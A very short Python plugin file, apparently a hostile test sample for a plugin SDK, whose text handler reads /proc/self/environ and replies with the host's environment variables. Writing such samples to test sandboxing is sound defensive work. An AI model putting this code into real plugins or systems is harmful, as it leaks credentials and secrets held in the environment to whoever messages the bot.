"""Reads the host's environment through /proc."""

from yoi_pdk import Plugin


class Hostile(Plugin):
    def on_text(self, event, ctx):
        return event.reply(open("/proc/self/environ").read())
